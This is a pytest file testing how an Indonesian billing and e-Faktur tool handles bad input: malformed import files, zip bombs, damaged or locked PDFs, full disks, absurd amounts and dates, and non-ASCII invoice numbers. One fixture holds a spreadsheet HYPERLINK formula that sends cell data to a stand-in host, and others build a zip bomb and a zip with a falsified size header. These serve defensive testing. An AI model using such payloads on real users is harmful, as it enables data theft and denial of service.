"""Whatever file or text is fed in, the user gets a plain message and the book is unchanged.

Other bad input is tested beside its feature: import problems row by row and empty, cp1252
or fake files (test_billing_import); traversal, nested and damaged entries of an upload zip
(test_upload); books that are not SQLite, newer, read-only or locked (test_schema,
test_backups, test_window_backups, test_window_start); spreadsheet exports that neutralise
formulas (test_billing_import).
"""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from peewee import OperationalError
from pypdf import PdfReader, PdfWriter

from app.billings import billing_actions, numbering, parties
from app.billings.amounts import MAX_RUPIAH
from app.billings.billing_import import COLUMNS, import_file, plan_import
from app.billings.billings import BillingData, LineData, create_billing
from app.book.connection import close_book, files_folder
from app.book.models import Billing, Customer, db
from app.cli.main import main
from app.common.date_window import outside
from app.common.efaktur_no import (
    EfakturNo,
    parse_any,
    parse_faktur,
    parse_for_billing,
    parse_number,
)
from app.common.errors import Refused
from app.efaktur import efaktur_upload, exports
from app.numbers.ranges import add_range, read_range
from tests.support.books import simple_billing
from tests.support.pdfs import faktur_pdf, make_zip
from tests.test_billing_import import row, write_csv
from tests.test_upload import SELLER, SINAR, guide_file, named

TABLES = ("billing", "billing_line", "customer", "efaktur_number", "efaktur_file", "event")


def snapshot() -> list:
    return [db.execute_sql(f"SELECT * FROM {t} ORDER BY id").fetchall() for t in TABLES]


def refused_and_unchanged(action, says: str) -> None:
    before = snapshot()
    with pytest.raises(Refused) as raised:
        action()
    plan = getattr(raised.value, "plan", None)  # an import names each problem of the file
    shown = [str(raised.value)] + [str(p) for p in (plan.problems if plan else [])]
    assert any(says in line for line in shown), shown
    assert snapshot() == before


# -- import files -----------------------------------------------------------------------


def test_an_empty_or_blank_import_file_says_so(book, tmp_path):
    (tmp_path / "empty.csv").write_bytes(b"")
    refused_and_unchanged(lambda: import_file(tmp_path / "empty.csv"), "is empty")
    (tmp_path / "header.csv").write_text(",".join(COLUMNS) + "\n", encoding="utf-8")
    refused_and_unchanged(
        lambda: import_file(tmp_path / "header.csv"), "there are no rows under the header"
    )


def test_a_binary_file_named_csv_or_xlsx_is_not_read_as_billings(book, tmp_path):
    noise = bytes(range(256)) * 64
    (tmp_path / "photo.csv").write_bytes(noise)
    refused_and_unchanged(lambda: import_file(tmp_path / "photo.csv"), "is not a text file")
    (tmp_path / "photo.xlsx").write_bytes(noise)
    refused_and_unchanged(lambda: import_file(tmp_path / "photo.xlsx"), "is not an Excel workbook")


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_100_mb_import_file_is_refused_before_it_is_read(book, tmp_path, suffix):
    huge = tmp_path / f"huge{suffix}"
    with huge.open("wb") as out:  # sparse: 100 MB on paper, nothing on the disk
        out.truncate(100 * 1024 * 1024)
    refused_and_unchanged(lambda: import_file(huge), "is 100 MB; an import file is at most 20 MB")


def test_a_csv_in_another_encoding_says_how_to_save_it(book, tmp_path):
    text = ",".join(COLUMNS) + "\nINV-É,2026-11-02\n"
    (tmp_path / "utf16.csv").write_bytes(text.encode("utf-16"))
    refused_and_unchanged(
        lambda: import_file(tmp_path / "utf16.csv"), "is saved as Unicode text (UTF-16)"
    )
    (tmp_path / "ansi.csv").write_bytes(text.encode("cp1252"))
    refused_and_unchanged(lambda: import_file(tmp_path / "ansi.csv"), "CSV UTF-8")


def test_formulas_in_a_csv_are_named_and_nothing_is_imported(book, tmp_path):
    path = write_csv(
        tmp_path / "formulas.csv",
        [
            row(customer_name='=HYPERLINK("http://evil.example/?"&A1,"PT Klik")'),
            row(invoice_no="INV-B", quantity="=2*3"),
        ],
    )
    assert [str(p) for p in plan_import(path).problems] == [
        'row 2, customer_name: “=HYPERLINK("http://evil.example/?"&A1,"…” is a spreadsheet '
        "formula; put the value itself in the cell.",
        "row 3, quantity: “=2*3” is a spreadsheet formula; put the value itself in the cell.",
    ]
    refused_and_unchanged(lambda: import_file(path), "nothing was imported")


def test_duplicate_invoice_numbers_that_disagree_are_named(book, tmp_path):
    path = write_csv(
        tmp_path / "twice.csv",
        [row(), row(customer_name="PT Lain", customer_npwp="")],
    )
    problems = [str(p) for p in plan_import(path).problems]
    assert problems and all("row 3" in p and "every line of one billing" in p for p in problems)
    refused_and_unchanged(lambda: import_file(path), "nothing was imported")


def test_an_xlsx_formula_without_a_saved_value_is_not_a_value(book, tmp_path):
    sheet = Workbook()
    sheet.active.append(list(COLUMNS))
    cells = row()
    cells["quantity"] = "=2*3"  # written by a program, never calculated by Excel
    sheet.active.append([cells.get(c, "") for c in COLUMNS])
    sheet.save(tmp_path / "uncalculated.xlsx")
    assert [str(p) for p in plan_import(tmp_path / "uncalculated.xlsx").problems] == [
        "row 2, quantity: is empty."
    ]


# -- upload zips and PDFs ---------------------------------------------------------------


def offered_reasons(tmp_path: Path, archive: bytes) -> list[str]:
    path = tmp_path / "upload.zip"
    path.write_bytes(archive)
    return [m.reason for m in efaktur_upload.match_offered(efaktur_upload.read_offered([path]))]


def test_a_zip_bomb_is_not_unpacked(demo, tmp_path):
    name, pdf = guide_file()
    reasons = offered_reasons(
        tmp_path, make_zip({"bomb.pdf": b"%PDF-1.4\n" + bytes(40 * 2**20), name: pdf})
    )
    assert reasons == [efaktur_upload.BOMB, ""]


def test_an_entry_that_lies_about_its_size_is_not_taken(demo, tmp_path):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("big.pdf", b"%PDF-1.4\n" + bytes(range(256)) * 2000)
    lying = bytearray(out.getvalue())
    at = lying.rindex(b"PK\x01\x02") + 24  # the central directory's uncompressed size
    lying[at : at + 4] = (10).to_bytes(4, "little")
    reasons = offered_reasons(tmp_path, bytes(lying))
    assert reasons == ["cannot be read from the zip: it is damaged"]


def test_a_zip_of_thousands_of_files_is_refused_whole(demo, tmp_path):
    count = efaktur_upload.MAX_ZIP_ENTRIES + 1
    archive = make_zip({f"f{i}.pdf": b"%PDF-1.4" for i in range(count)})
    assert offered_reasons(tmp_path, archive) == [
        f"holds {count:,} files; at most {efaktur_upload.MAX_ZIP_ENTRIES:,} at once"
    ]
    refused_and_unchanged(
        lambda: efaktur_upload.attach_matched(
            efaktur_upload.match_offered(efaktur_upload.read_offered([tmp_path / "upload.zip"])),
            files_folder(demo),
        ),
        "nothing was attached",
    )


def test_a_password_protected_faktur_is_named_and_not_attached(demo, tmp_path):
    name, pdf = guide_file()
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
    writer.encrypt(user_password="rahasia", owner_password="rahasia")
    locked = io.BytesIO()
    writer.write(locked)
    path = tmp_path / name
    path.write_bytes(locked.getvalue())
    matches = efaktur_upload.match_offered(efaktur_upload.read_offered([path]))
    assert [m.reason for m in matches] == [
        "the PDF is locked with a password; download it again from e-Faktur"
    ]
    refused_and_unchanged(
        lambda: efaktur_upload.attach_matched(matches, files_folder(demo)), "nothing was attached"
    )


def test_damaged_pdfs_of_every_kind_are_named_not_crashed_on(demo, tmp_path):
    pdf = faktur_pdf("010.000-26.12345619")
    damaged = {
        named("0100002612345619", SINAR, SELLER, f"cut{i}"): pdf[:i]
        for i in (8, 100, len(pdf) // 2, len(pdf) - 20)
    }
    damaged["header-only.pdf"] = b"%PDF-1.7\n%%EOF"
    damaged["garbage.pdf"] = b"%PDF-" + bytes(range(256)) * 8
    reasons = offered_reasons(tmp_path, make_zip(damaged))
    assert all(r.startswith(("damaged PDF", "no faktur number")) for r in reasons), reasons


# -- pasted numbers ---------------------------------------------------------------------


@settings(max_examples=300)
@given(
    st.text()
    | st.from_regex(r"[0-9 .\-]{0,30}", fullmatch=True)
    | st.from_regex(r"(0[0-9][0-2]\.)?[0-9]{3}-[0-9]{2}\.[0-9]{8}", fullmatch=True)
)
def test_pasted_text_of_any_length_and_alphabet_is_a_number_or_a_plain_refusal(text):
    for reader in (parse_any, parse_number, parse_faktur):
        try:
            number = reader(text)
        except Refused as refused:
            assert refused.message and "Traceback" not in refused.message
        else:
            number = getattr(number, "number", number)  # the faktur form holds the number
            assert isinstance(number, EfakturNo)
            assert len(re.sub(r"\D", "", text)) in (13, 16)
    # one parser everywhere: a range (the window's or ``ranges add``) takes what search
    # takes, the same number, when its year is one the program keeps; a number chosen for a
    # code-01 billing is the same number, and its faktur form must say 01 and status 0
    searched = _or_none(parse_any, text)
    kept_year = searched is not None and outside(searched.year, "") is None
    assert _or_none(lambda t: read_range(t, t).start, text) == (searched if kept_year else None)
    chosen = _or_none(lambda t: parse_for_billing(t, "01", "INV-1"), text)
    digits = re.sub(r"\D", "", text)
    assert chosen == (searched if len(digits) == 13 or digits.startswith("010") else None)


def _or_none(reader, text: str):
    try:
        return reader(text)
    except Refused as refused:
        assert refused.message and "Traceback" not in refused.message
        return None


# -- the disk fills up in the middle of a long change -------------------------------------


def said_the_disk_is_full(error: BaseException) -> bool:
    # SQLite rolls back on its own when the disk fills; peewee's own rollback then fails
    # and carries the first error as its context (ui.launch.known_trouble reads the chain)
    chain = []
    while error is not None:
        chain.append(str(error))
        error = error.__cause__ or error.__context__
    return any("full" in text for text in chain)


def fill_the_disk() -> None:
    pages = db.execute_sql("PRAGMA page_count").fetchone()[0]
    db.execute_sql(f"PRAGMA max_page_count = {pages}")


def make_room() -> None:
    db.execute_sql("PRAGMA max_page_count = 1073741823")


def test_a_full_disk_during_an_import_leaves_no_billing_behind(book, tmp_path):
    path = write_csv(
        tmp_path / "many.csv",
        [row(invoice_no=f"INV-{i:05d}", item_name="Jasa " * 50) for i in range(2000)],
    )
    before = snapshot()
    fill_the_disk()
    try:
        with pytest.raises(OperationalError) as raised:
            import_file(path)
    finally:
        make_room()
    assert said_the_disk_is_full(raised.value)
    assert snapshot() == before
    assert import_file(path).billings == 2000  # with room again, the same file goes in whole


def test_a_full_disk_during_a_bulk_issue_issues_none(book, tmp_path):
    parties.set_company("PT Penjual Jaya", SELLER, "Jl. Merdeka 1, Jakarta")
    add_range(read_range("000-26.00000001", "000-26.00003000", None, date(2026, 1, 2), ""))
    rows = [row(invoice_no=f"INV-{i:05d}") for i in range(2000)]
    import_file(write_csv(tmp_path / "drafts.csv", rows))
    drafts = [b.id for b in Billing.select(Billing.id)]
    before = snapshot()
    fill_the_disk()
    try:
        with pytest.raises(OperationalError) as raised:
            billing_actions.issue_billings(drafts)
    finally:
        make_room()
    assert said_the_disk_is_full(raised.value)
    assert snapshot() == before
    assert len(billing_actions.issue_billings(drafts)) == 2000  # with room, all at once


# -- absurd amounts, dates and invoice numbers ------------------------------------------


def test_amounts_no_invoice_reaches_are_row_problems_not_a_crash(book, tmp_path, capsys):
    path = write_csv(
        tmp_path / "absurd.csv",
        [
            row(invoice_no="INV-A", unit_price="99999999999999999999999"),
            row(invoice_no="INV-B", quantity="1.000.000", unit_price="9.000.000.000.000.000"),
            row(invoice_no="INV-C", quantity="2.000.000", unit_price="90.000.000"),
            row(invoice_no="INV-D", quantity="1.000.000.001", unit_price="1"),
            row(invoice_no="INV-E", unit_price="60.000.000.000.000"),
            row(invoice_no="INV-E", unit_price="60.000.000.000.000"),
        ],
    )
    assert [str(p) for p in plan_import(path).problems] == [
        "row 2, unit_price: is at most Rp 100.000.000.000.000 (no invoice reaches that).",
        "row 3, unit_price: is at most Rp 100.000.000.000.000 (no invoice reaches that).",
        "row 4, unit_price: makes the line Rp 180.000.000.000.000 (quantity × unit price); "
        "a line is at most Rp 100.000.000.000.000.",
        "row 5, quantity: is at most 1,000,000,000 (no invoice line holds more).",
        "row 6: The billing comes to Rp 133.200.000.000.000; one billing is at most "
        "Rp 100.000.000.000.000, which no invoice reaches. Check the quantities and prices.",
    ]
    refused_and_unchanged(lambda: import_file(path), "nothing was imported")
    assert main(["--db", str(book), "import", str(path)]) == 2  # was exit 1, OverflowError
    assert "absurd.csv: row 2, unit_price: is at most" in capsys.readouterr().err


@settings(max_examples=150, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    quantity=st.decimals(min_value=0, max_value=10**30, places=3),
    price=st.decimals(min_value=0, max_value=10**30, places=2),
    discount=st.decimals(min_value=0, max_value=100, places=2),
    tax=st.booleans(),
    included=st.booleans(),
    luxury=st.booleans(),
    lines=st.integers(min_value=1, max_value=3),
)
def test_a_billing_is_kept_or_refused_and_never_overflows_the_book(
    book, quantity, price, discount, tax, included, luxury, lines
):
    customer = Customer.get_or_none() or parties.add_customer("PT Kreasi Nusantara")
    data = BillingData(
        invoice_no=f"INV-{Billing.select().count() + 1}",
        customer_id=customer.id,
        invoice_date=date(2026, 11, 2),
        due_date=date(2026, 12, 2),
        tax_active=tax,
        prices_include_tax=included,
        lines=(LineData("Jasa", quantity, price, discount, luxury=luxury),) * lines,
    )
    try:
        billing = create_billing(data)
    except Refused as refused:
        assert refused.message and "Traceback" not in refused.message
        return
    stored = db.execute_sql(
        "SELECT dpp, ppn, total, typeof(total) FROM billing WHERE id = ?", (billing.id,)
    ).fetchone()
    assert stored[3] == "integer" and max(stored[:3]) <= MAX_RUPIAH


def test_dates_outside_2010_to_next_year_are_refused_in_the_import_and_the_core(book, tmp_path):
    path = write_csv(
        tmp_path / "dates.csv",
        [
            row(invoice_no="INV-A", invoice_date="0001-01-01", due_date="0001-01-31"),
            row(invoice_no="INV-B", invoice_date="2026-11-02", due_date="9999-12-31"),
            row(invoice_no="INV-C", invoice_date="2028-01-01", due_date="2028-01-01"),
            row(invoice_no="INV-D", invoice_date="2010-01-01", due_date="2027-12-31"),
        ],
    )
    why = "is outside the years 2010 to 2027 (e-Faktur began in 2010, and nothing may be "
    assert [str(p) for p in plan_import(path).problems] == [
        f"row 2, invoice_date: 0001-01-01 {why}dated after next year).",
        f"row 2, due_date: 0001-01-31 {why}dated after next year).",
        f"row 3, due_date: 9999-12-31 {why}dated after next year).",
        f"row 4, invoice_date: 2028-01-01 {why}dated after next year).",
        f"row 4, due_date: 2028-01-01 {why}dated after next year).",
    ]
    customer = parties.add_customer("PT Kreasi Nusantara")
    for day in (date(1, 1, 1), date(2009, 12, 31), date(9999, 12, 31)):
        refused_and_unchanged(
            lambda day=day: simple_billing("INV-X", customer.id, day),
            f"The invoice date {day.isoformat()} {why}",
        )


def test_the_command_line_refuses_a_period_or_range_year_outside_the_window(demo, capsys):
    close_book()
    db_args = ["--db", str(demo)]
    assert exports.month_of(date(9999, 12, 25)) == (date(9999, 12, 1), date(9999, 12, 31))
    for period in ("9999-12", "0001-01", "2009-12"):
        assert (
            main([*db_args, "export-csv", "--out", str(demo.parent / "x.csv"), "--period", period])
            == 2
        )
        assert f"Period {period} is outside the years 2010 to 2027" in capsys.readouterr().err
    for start, end, year in [
        ("000-00.00000001", "000-00.00000010", 2000),
        ("000-99.00000001", "000-99.00000010", 2099),
        ("000-09.00000001", "000-09.00000010", 2009),
        ("000-28.00000001", "000-28.00000010", 2028),
    ]:
        assert main([*db_args, "ranges", "add", start, end]) == 2
        assert f"a number for {year}, is outside the years 2010" in capsys.readouterr().err
    bad_grant = [*db_args, "ranges", "add", "000-27.00000001", "000-27.00000010"]
    assert main([*bad_grant, "--grant-date", "0001-01-01"]) == 2
    assert "grant letter date 0001-01-01 is outside" in capsys.readouterr().err
    assert main([*db_args, "ranges", "list"]) == 0
    assert "000-27" not in capsys.readouterr().out  # nothing was recorded
    # the window's dialog takes the 16-digit faktur form, and so does the command line
    assert main([*db_args, "ranges", "add", "010.000-27.12345678", "0002712345680"]) == 0
    assert "000-27.12345678 .. 000-27.12345680 recorded" in capsys.readouterr().out


def test_a_chosen_number_in_the_faktur_form_must_fit_the_billing(demo, capsys):
    db.execute_sql("UPDATE billing SET status = 'unpaid' WHERE invoice_no = 'INV-FPY-032300406'")
    close_book()
    choose = ["--db", str(demo), "generate-efaktur", "INV-FPY-032300406", "--number"]
    assert main([*choose, "071.000-26.12345651"]) == 2  # code 07 on a code-01 billing
    assert (
        "“071.000-26.12345651” is the faktur form for transaction code 07, but "
        "INV-FPY-032300406 has code 01." in capsys.readouterr().err
    )
    assert main([*choose, "011.000-26.12345651"]) == 2
    assert "status digit 1, a replacement faktur" in capsys.readouterr().err
    assert main([*choose, "010.000-26.12345651"]) == 0
    assert "INV-FPY-032300406: E-Faktur No 000-26.12345651" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("pattern", "says"),
    [
        ("ФАКТУРА/{yyyy}/{seq:04}", "“ФАКТУРА/2026/0001”, which holds “Ф” (U+0424)"),
        ("INV/{seq:99}", "which is 103 characters long; an invoice number has at most 40"),
        ("INV\u200b/{seq:05}", "which holds an invisible character (U+200B)"),
        ("INV\\{seq:05}", "which holds a backslash"),
    ],
)
def test_an_invoice_pattern_is_printable_ascii_of_sensible_length(book, pattern, says):
    refused_and_unchanged(lambda: numbering.save(pattern), says)
    assert numbering.current().text == numbering.DEFAULT_PATTERN


def test_an_invoice_number_outside_printable_ascii_is_refused_in_import_and_form(book, tmp_path):
    path = write_csv(
        tmp_path / "cyrillic.csv",
        [row(invoice_no="ФАКТУРА/2026/0001"), row(invoice_no="INV\u200b2"), row(invoice_no="B")],
    )
    assert [str(p) for p in plan_import(path).problems] == [
        "row 2, invoice_no: “ФАКТУРА/2026/0001” holds “Ф” (U+0424); an invoice number is "
        "written with plain letters A-Z, digits, spaces and punctuation, since e-Faktur drops "
        "anything else and two invoice numbers could become one.",
        "row 3, invoice_no: “INV\u200b2” holds an invisible character (U+200B); an invoice "
        "number is written with plain letters A-Z, digits, spaces and punctuation, since "
        "e-Faktur drops anything else and two invoice numbers could become one.",
    ]
    customer = parties.add_customer("PT Kreasi Nusantara")
    for invoice_no in ("СЧЁТ/2026/0001", "INV\\1", "INV  1", "I" * 41):
        refused_and_unchanged(
            lambda n=invoice_no: simple_billing(n, customer.id, date(2026, 11, 2)),
            "Invoice number “",
        )


def test_a_kept_invoice_number_e_faktur_would_collapse_is_left_out_of_the_export(demo, tmp_path):
    # books from before the rule may hold such numbers: each is left out with the reason,
    # never written as a REFERENSI that another faktur shares
    for old, new in [
        ("INV-FPY-032300400", "ФАКТУРА/2026/0001"),
        ("INV-FPY-032300403", "СЧЁТ/2026/0001"),
    ]:
        db.execute_sql("UPDATE billing SET invoice_no = ? WHERE invoice_no = ?", (new, old))
    ids = exports.billings_of_period(*exports.month_bounds("2026-11"))
    done = exports.export_csv(ids, tmp_path / "november.csv")
    reasons = {x.invoice_no: x.reason for x in done.left_out}
    assert reasons["ФАКТУРА/2026/0001"].startswith(
        "its invoice number holds “Ф” (U+0424); an invoice number is written with plain"
    )
    assert reasons["СЧЁТ/2026/0001"].endswith(
        "Cancel it and issue a duplicate under a plain invoice number"
    )
    written = (tmp_path / "november.csv").read_text(encoding="utf-8")
    assert "/2026/0001" not in written
    assert done.fakturs == 1  # INV-FPY-032300402; the others are left out, each named
